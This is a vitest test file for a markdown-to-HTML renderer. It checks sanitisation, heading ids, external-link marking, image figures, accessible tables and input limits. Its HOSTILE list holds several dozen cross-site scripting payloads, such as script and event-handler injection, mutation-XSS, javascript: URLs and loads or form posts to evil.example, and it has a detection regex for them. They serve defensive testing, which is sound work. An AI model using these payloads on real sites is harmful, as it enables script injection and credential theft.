import { describe, expect, test } from 'vitest'
import { BadImage } from './content-image.ts'
import { renderMarkdown } from './render-markdown.ts'

const findImage = async (source: string) => {
  if (source.includes('gone')) throw new BadImage('does not exist')
  return { name: `${'a'.repeat(24)}.webp`, width: 640, height: 480 }
}
const render = (text: string) => renderMarkdown(text, findImage)
const htmlOf = async (text: string) => (await render(text)).html

/** What a browser could run, load or send from. */
const DANGEROUS =
  /<(?:script|style|iframe|object|embed|svg|math|form|input|button|base|meta|link|template|noscript|title|video|audio|source|frame)\b|\son\w+\s*=|(?:javascript|vbscript|data)\s*:|style\s*=|srcset|formaction|xlink/i

const HOSTILE = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></ScRiPt>',
  '<script\n>alert(1)</script\n>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" alt="a" onerror="alert(1)">',
  '<img/src=x/onerror=alert(1)>',
  '<img src=x alt=a srcset="https://evil.example/a 1x">',
  '<img alt="a" src="javascript:alert(1)">',
  '<img alt="a" src="data:image/svg+xml;base64,PHN2Zz4=">',
  '![a](data:image/png;base64,AAAA)',
  '![a](javascript:alert(1))',
  '[a](javascript:alert(1))',
  '[a](JaVaScRiPt:alert(1))',
  '[a](java\tscript:alert(1))',
  '[a](&#106;avascript:alert(1))',
  '[a](&#x6A;avascript&colon;alert(1))',
  '[a](vbscript:msgbox(1))',
  '[a](data:text/html,<script>alert(1)</script>)',
  '<a href="javascript:alert(1)">a</a>',
  '<a href=" &#14; javascript:alert(1)">a</a>',
  '<a href="jav&#x0A;ascript:alert(1)">a</a>',
  '[a]: javascript:alert(1)\n\n[a]',
  '<javascript:alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<title><p title="</title><img src=x onerror=alert(1)>">',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
  '<style><p title="</style><img src=x onerror=alert(1)>">',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<select><template><style><!--</style><a rel="--></style></template></select><img id=x src onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?php <img src=x onerror=alert(1)> ?>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<style>@import url(https://evil.example/x.css)</style>',
  '<p style="background:url(https://evil.example)">a</p>',
  '<form action=https://evil.example><input name=password></form>',
  '<button formaction="javascript:alert(1)">a</button>',
  '<details open ontoggle=alert(1)>a</details>',
  '<video><source onerror=alert(1)></video>',
  '<marquee onstart=alert(1)>a</marquee>',
  '<table background="javascript:alert(1)"><tr><td>a</td></tr></table>',
  '<a href="https://a.example" onclick="alert(1)" target="_blank" ping="https://evil.example">a</a>',
  '<input autofocus onfocus=alert(1)>',
  '<body onload=alert(1)>',
  '<plaintext><script>alert(1)</script>',
  '<p id="main" name="body">a</p>',
] as const

describe('HTML in a text', () => {
  test.each(HOSTILE)('is made harmless: %s', async (text) => {
    const html = await htmlOf(`Before\n\n${text}\n\nAfter`)
    // Words that are only shown are no markup.
    const markup = [...html.matchAll(/<[^>]*>/g)].join('')
    expect(markup).not.toMatch(DANGEROUS)
    expect(markup).not.toMatch(/\s(?:id|name|target|ping)=/)
    expect(html).toContain('Before')
  })

  test('stays harmless when it is parsed a second time', async () => {
    for (const text of HOSTILE) {
      const once = await htmlOf(text)
      expect([...(await htmlOf(once)).matchAll(/<[^>]*>/g)].join('')).not.toMatch(DANGEROUS)
    }
  })

  test('stays, as far as it only structures words', async () => {
    expect(await htmlOf('H<sub>2</sub>O, <abbr title="a tonne">t</abbr>')).toBe(
      '<p>H<sub>2</sub>O, <abbr title="a tonne">t</abbr></p>',
    )
  })
})

describe('a text', () => {
  test('has headings with ids, each once and none of the page around it', async () => {
    const { html, headings } = await render('## Sources\n\n## Où est-ce?\n\n### Sources\n\n## 木')
    expect(headings.map(({ id }) => id)).toEqual(['sources-2', 'ou-est-ce', 'part'])
    expect(html).toContain('<h3 id="sources-3">')
  })

  test.each([
    ['[a](https://b.example)', 'rel="external noopener noreferrer"'],
    ['[a](//b.example)', 'rel="external noopener noreferrer"'],
    ['[a](/projects)', '<a href="/projects">a</a>'],
    ['[a](#part)', '<a href="#part">a</a>'],
    ['[a](mailto:a@b.example)', '<a href="mailto:a@b.example">a</a>'],
  ])('marks links to other hosts alone: %s', async (text, html) => {
    expect(await htmlOf(text)).toContain(html)
  })

  test('has images of our own origin with their sizes, as figures with captions', async () => {
    const { html, images } = await render('![Moss](moss.png "On a stone")')
    expect(html).toBe(
      `<figure><img src="/api/content-images/${'a'.repeat(24)}.webp" alt="Moss" width="640" height="480" loading="lazy" decoding="async"><figcaption>On a stone</figcaption></figure>`,
    )
    expect(images).toEqual([`${'a'.repeat(24)}.webp`])
  })

  test('has tables that scroll by themselves, also by keyboard', async () => {
    const html = await htmlOf('| Tree | Years |\n| :-- | --: |\n| [Oak](https://o.example) | 90 |')
    expect(html).toContain('tabindex="0" role="region" aria-label="Table: Tree, Years"><table>')
    expect(html).toContain('<td align="right">90</td>')
    expect(html).toContain('rel="external noopener noreferrer">Oak')
  })

  test('has no empty headings in its tables', async () => {
    const html = await htmlOf('| | Years |\n| :-- | --: |\n| Oak | 90 |')
    expect(html).toContain('<td align="left"></td>\n<th align="right">Years</th>')
  })

  test('counts its words', async () => {
    expect((await render('One *two* — three.\n\n- four')).words).toBe(4)
  })

  test.each([
    ['# Title', 1, 'Begin headings with ##'],
    ['a\n\n##### Deep', 3, 'two to four #'],
    ['a\n\n![a](gone.png)', 3, 'does not exist'],
    ['![a](data:image/png;base64,AA)', null, 'no address that may be used'],
    ['a'.repeat(100_001), null, 'longer than 100000'],
    ['a\0b', null, 'cannot be shown'],
    ['a\u0008b', null, 'cannot be shown'],
    ['<div>'.repeat(100), null, 'nested too deeply'],
    ['> '.repeat(100), null, 'nested too deeply'],
    ['*a_ '.repeat(24_000), null, 'more than 500 marks'],
    ['[a](<'.repeat(18_000), null, 'more than 500 marks'],
    ['<!--'.repeat(20_000), null, 'more than 500 marks'],
  ])('is refused: %#', async (text, line, sentence) => {
    const { problems } = await render(text)
    expect(problems[0]?.message).toContain(sentence)
    if (line !== null) expect(problems[0]?.line).toBe(line)
  })
})
